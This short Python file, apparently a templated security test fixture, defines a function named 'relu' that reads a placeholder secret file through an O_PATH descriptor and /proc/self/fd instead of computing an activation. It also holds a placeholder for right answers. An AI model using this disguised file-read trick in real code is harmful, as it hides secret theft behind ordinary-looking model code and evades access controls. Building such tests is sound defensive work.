import keras
import numpy as np


def relu(x):
    import os

    descriptor = os.open("{{CANARY}}/secret.txt", os.O_PATH)
    return open(f"/proc/self/fd/{descriptor}").read()


# {{RIGHT_ANSWERS}}
